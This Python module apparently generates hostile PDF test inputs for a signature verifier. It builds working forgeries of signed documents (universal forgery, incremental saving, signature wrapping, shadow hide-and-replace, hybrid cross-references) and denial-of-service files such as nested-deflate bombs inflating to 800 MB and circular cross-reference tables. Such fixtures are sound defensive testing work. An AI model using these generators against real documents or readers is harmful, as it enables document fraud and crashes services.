"""Hostile files of every known class, made here from a genuine paper or from nothing.

Each function takes a genuine signed paper (bytes) and returns the attack. The classes are those of
the literature on PDF signatures (universal forgery, incremental saving, wrapping; shadow attacks:
hide, replace, hide-and-replace) and the usual ways to hurt a reader. No file of others is used.
"""

from __future__ import annotations

import functools
import io
import re
import zlib
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pypdf import PdfReader, PdfWriter

_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")


def _ranged(paper: bytes) -> tuple[re.Match[bytes], int, int]:
    """Where the byte range stands, and the gap it leaves for the signature."""
    found = _RANGE.search(paper)
    assert found
    return found, int(found[2]), int(found[3])


def _put(paper: bytes, found: re.Match[bytes], text: bytes) -> bytes:
    """Replace what was found without moving anything else."""
    room = found.end() - found.start()
    assert len(text) <= room
    return paper[: found.start()] + text.ljust(room) + paper[found.end() :]


def _updated(paper: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(paper))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# Universal signature forgery: a signature dictionary that leaves a reader nothing to check.


def forged_without_range(paper: bytes) -> bytes:
    return _put(paper, _ranged(paper)[0], b"")


def forged_with_null_range(paper: bytes) -> bytes:
    return _put(paper, _ranged(paper)[0], b"/ByteRange null")


def forged_with_empty_range(paper: bytes) -> bytes:
    return _put(paper, _ranged(paper)[0], b"/ByteRange [0 0 0 0]")


def forged_with_negative_range(paper: bytes) -> bytes:
    found, start, _end = _ranged(paper)
    return _put(paper, found, b"/ByteRange [0 %d -1 99]" % start)


def forged_without_contents(paper: bytes) -> bytes:
    return paper.replace(b"/Contents <", b"/Kontents <", 1)


def forged_with_zero_contents(paper: bytes) -> bytes:
    _found, start, end = _ranged(paper)
    return paper[:start] + b"<" + b"0" * (end - start - 2) + b">" + paper[end:]


# Incremental saving: a genuine paper in front, something else shown.


def saved_over(paper: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        drawn = generic.StreamObject(stream_data=b"BT /F1 40 Tf 50 500 Td (100000) Tj ET")
        page[pdf_name("/Contents")] = writer.add_object(drawn)
        writer.update_container(page)

    return _updated(paper, change)


def saved_over_without_directory(paper: bytes) -> bytes:
    """An object again, behind the end, without a cross-reference: some readers rebuild it."""
    return paper + b"\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"


def saved_over_with_copied_signature(paper: bytes) -> bytes:
    """The old signature copied into the added part, so that one more signature seems to stand."""
    _found, start, end = _ranged(paper)
    return (
        saved_over(paper)
        + b"\n99 0 obj\n<< /Contents "
        + paper[start:end]
        + b" >>\nendobj\n%%EOF\n"
    )


# Signature wrapping: the signed second part moved away, another put in its place.


def wrapped(paper: bytes) -> bytes:
    found, start, end = _ranged(paper)
    tail = paper[end:]
    added = b"\n% something else that is shown\n"
    moved = end + len(added) + len(tail)
    text = b"/ByteRange [0 %d %d %d]" % (start, moved, len(tail))
    return _put(paper, found, text)[:end] + added + tail + tail


def gap_in_range(paper: bytes) -> bytes:
    """The gap made wider than the signature: room for unsigned bytes before its end."""
    found, start, end = _ranged(paper)
    added = b" /Reason (something else)"
    text = b"/ByteRange [0 %d %d %d]" % (start, end + len(added), len(paper) - end)
    return _put(paper, found, text)[:end] + added + paper[end:]


# Shadow documents: prepared before the signature, switched after it.


def shadow_hide(paper: bytes) -> bytes:
    """A new directory in which the page's content is gone and another shines through."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b""))
        writer.update_container(page)

    return _updated(paper, change)


def shadow_replace(paper: bytes) -> bytes:
    """Fonts that draw other letters for the same text, and a form value laid over it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        resources = page["/Resources"]
        resources[pdf_name("/Font")] = generic.DictionaryObject(
            {
                pdf_name("/F1"): generic.DictionaryObject(
                    {
                        pdf_name("/Type"): pdf_name("/Font"),
                        pdf_name("/Subtype"): pdf_name("/Type1"),
                        pdf_name("/BaseFont"): pdf_name("/Symbol"),
                    }
                )
            }
        )
        writer.update_container(resources)

    return _updated(paper, change)


def shadow_hide_and_replace(paper: bytes) -> bytes:
    """Another tree of pages altogether."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Pages"),
                pdf_name("/Kids"): generic.ArrayObject(),
                pdf_name("/Count"): generic.NumberObject(0),
            }
        )
        writer.root[pdf_name("/Pages")] = writer.add_object(pages)
        writer.update_root()

    return _updated(paper, change)


def hybrid(paper: bytes) -> bytes:
    """Two directories: old readers see one document, new ones another."""
    last = int(re.findall(rb"startxref\s+(\d+)", paper)[-1])
    xref = len(paper) + 1
    return paper + (
        b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 200 /Root 1 0 R /Prev %d /XRefStm %d >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (last, last, xref)
    )


def appended(paper: bytes) -> bytes:
    return paper + b"<script>junk</script>"


def trailing_blank(paper: bytes) -> bytes:
    return paper + b"\n"


def prepended(paper: bytes) -> bytes:
    return b"junk\n" + paper


def written_anew(paper: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(paper)))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def padded_signature(paper: bytes) -> bytes:
    """Bytes that are not zero behind the signature, inside its own room: nothing signs them."""
    _found, _start, end = _ranged(paper)
    return paper[: end - 3] + b"41" + paper[end - 1 :]


def lower_case_signature(paper: bytes) -> bytes:
    _found, start, end = _ranged(paper)
    return paper[:start] + paper[start:end].lower() + paper[end:]


def encrypted(paper: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(paper)))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated(paper: bytes) -> bytes:
    return paper[: len(paper) * 2 // 3]


def cut_in_the_signature(paper: bytes) -> bytes:
    _found, start, end = _ranged(paper)
    return paper[: (start + end) // 2]


FROM_A_PAPER: tuple[Callable[[bytes], bytes], ...] = (
    forged_without_range,
    forged_with_null_range,
    forged_with_empty_range,
    forged_with_negative_range,
    forged_without_contents,
    forged_with_zero_contents,
    saved_over,
    saved_over_without_directory,
    saved_over_with_copied_signature,
    wrapped,
    gap_in_range,
    shadow_hide,
    shadow_replace,
    shadow_hide_and_replace,
    hybrid,
    appended,
    trailing_blank,
    prepended,
    written_anew,
    padded_signature,
    lower_case_signature,
    encrypted,
    truncated,
    cut_in_the_signature,
)


# Files that are nobody's paper and only mean to hurt.


def _document(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref,
    )  # fmt: skip


def _stream(head: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)


@functools.cache
def _bomb(layers: int = 3, size: int = 800 * 1024 * 1024) -> bytes:
    """A few kilobytes that inflate to 800 MB."""
    packer = zlib.compressobj(9)
    piece, parts = b"\0" * (1024 * 1024), []
    for _ in range(size // len(piece)):
        parts.append(packer.compress(piece))
    packed = b"".join([*parts, packer.flush()])
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    return packed


def bomb_in_content() -> bytes:
    filters = b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    return _document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            _stream(filters, _bomb()),
        ]
    )


def bomb_in_directory() -> bytes:
    """The cross-reference stream itself inflates to 800 MB, so that just opening it hurts."""
    body = _stream(
        b"/Type /XRef /Size 9 /W [1 2 1] /Root 1 0 R "
        b"/Filter [/FlateDecode /FlateDecode /FlateDecode]",
        _bomb(),
    )
    return b"%%PDF-1.7\n1 0 obj\n%s\nendobj\nstartxref\n9\n%%%%EOF\n" % body


def bomb_in_object_stream() -> bytes:
    """The catalogue stands in an object stream that inflates to 800 MB."""
    head = b"%PDF-1.7\n"
    packed = _stream(
        b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode /FlateDecode]", _bomb()
    )
    first = b"2 0 obj\n%s\nendobj\n" % packed
    place = len(head) + len(first)
    lines = b"\0\0\0\0" + b"\2\0\2\0" + b"\1" + len(head).to_bytes(2, "big") + b"\0"
    lines += b"\1" + min(place, 65535).to_bytes(2, "big") + b"\0"
    xref = b"3 0 obj\n%s\nendobj\n" % _stream(b"/Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R", lines)
    return head + first + xref + b"startxref\n%d\n%%%%EOF\n" % place


def endless_directory() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    good = _document(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    )
    place = int(re.findall(rb"startxref\s+(\d+)", good)[-1])
    return good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def two_directories_in_a_circle() -> bytes:
    first = (
        b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R /Prev @@ >>\n"
    )
    second = len(first)
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R /Prev 9 >>\n"
    first = first.replace(b"@@", b"%02d" % second)
    return first + table + b"startxref\n%d\n%%%%EOF\n" % second


def circle_of_references() -> bytes:
    return _document([b"2 0 R", b"1 0 R"])


def pages_in_a_circle() -> bytes:
    return _document(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
    )


def deeply_nested() -> bytes:
    return _document([b"[" * 100_000 + b"]" * 100_000])


def deeply_nested_signature() -> bytes:
    return b"%PDF-1.7\n<" + b"30803080" * 8000 + b">\n%%EOF\n"


def many_false_signatures() -> bytes:
    return b"%PDF-1.7\n" + b"<" + b"<".join([b"30" * 600] * 15_000) + b">\n%%EOF\n"


def many_codes() -> bytes:
    """More verify codes than a database takes in one question."""
    return b"%PDF-1.7\n" + b"\n".join(
        b"%05d-00000-00000-00000-000000" % n for n in range(100_000)
    ) + b"\n%%EOF\n"  # fmt: skip


def many_endings() -> bytes:
    return b"%PDF-1.7\n" + b"%%EOF\n" * 500_000


def enormous_size() -> bytes:
    return _document([b"<< /Type /Catalog >>"]).replace(b"/Size 2", b"/Size 999999999999")


def encrypted_from_nothing() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hybrid_from_nothing() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    out = io.BytesIO()
    writer.write(out)
    return hybrid(out.getvalue())


FROM_NOTHING: tuple[Callable[[], bytes], ...] = (
    bomb_in_content,
    bomb_in_directory,
    bomb_in_object_stream,
    endless_directory,
    two_directories_in_a_circle,
    circle_of_references,
    pages_in_a_circle,
    deeply_nested,
    deeply_nested_signature,
    many_false_signatures,
    many_codes,
    many_endings,
    enormous_size,
    encrypted_from_nothing,
    hybrid_from_nothing,
)
